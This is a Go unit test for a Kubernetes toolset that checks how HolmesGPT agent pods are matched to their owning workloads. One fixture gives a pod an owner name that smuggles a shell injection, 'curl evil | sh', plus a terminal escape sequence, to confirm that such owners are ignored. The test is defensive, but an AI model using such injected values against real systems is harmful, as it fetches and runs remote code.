package cluster

import (
	"slices"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"kubernaut.io/dynamic-toolset/internal/backend"
	"kubernaut.io/dynamic-toolset/internal/doctor"
)

// TestAgentsByTheirPods: HolmesGPT is found by its pods where they belong to no workload that is read, as an Argo Rollout, once for each
// controller, and not a second time where they belong to one. An owner that can be none, since its name is a command, is ignored.
func TestAgentsByTheirPods(t *testing.T) {
	t.Attr("req", "DTS-CLI-7 DTS-SEC-3")
	spec := corev1.PodSpec{Containers: []corev1.Container{{Image: "robustadev/holmes:0.45.0"}}}
	pod := func(name, kind, owner, hash string, phase corev1.PodPhase) corev1.Pod {
		p := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: name}, Spec: spec, Status: corev1.PodStatus{Phase: phase}}
		if hash != "" {
			p.Labels = map[string]string{appsv1.DefaultDeploymentUniqueLabelKey: hash}
		}
		if kind != "" {
			p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: owner, Controller: new(true)}}
		}
		return p
	}
	e := &examiner{facts: &doctor.Facts{}}
	for _, kind := range []string{"Deployment", "StatefulSet"} {
		e.add(&doctor.Workload{Kind: kind, Ref: backend.Ref{Namespace: "ns", Name: "known"}, Pod: spec})
	}
	for _, p := range []corev1.Pod{
		pod("known-7f-a", "ReplicaSet", "known-7f", "7f", corev1.PodRunning),
		pod("known-0", "StatefulSet", "known", "", corev1.PodRunning),
		pod("rollout-6c-a", "ReplicaSet", "rollout-6c", "", corev1.PodRunning),
		pod("rollout-6c-b", "ReplicaSet", "rollout-6c", "", corev1.PodRunning),
		pod("clone-0", "CloneSet", "clone", "", corev1.PodRunning),
		pod("clone-1", "CloneSet", "clone", "", corev1.PodPending),
		pod("unread-0", "StatefulSet", "unread", "", corev1.PodRunning),
		pod("ended", "Job", "ended", "", corev1.PodSucceeded),
		pod("bare", "", "", "", corev1.PodRunning),
		pod("named", "ReplicaSet", "x; curl evil | sh #\x1b[2J", "", corev1.PodRunning),
	} {
		e.add(ofPod(&p))
	}
	var got []string
	for i := range e.facts.Workloads {
		w := &e.facts.Workloads[i]
		got = append(got, w.Kind+" "+w.Name)
	}
	want := []string{"Deployment known", "StatefulSet known", "ReplicaSet rollout-6c", "Pod clone-0", "Pod unread-0", "Pod bare", "Pod named"}
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}
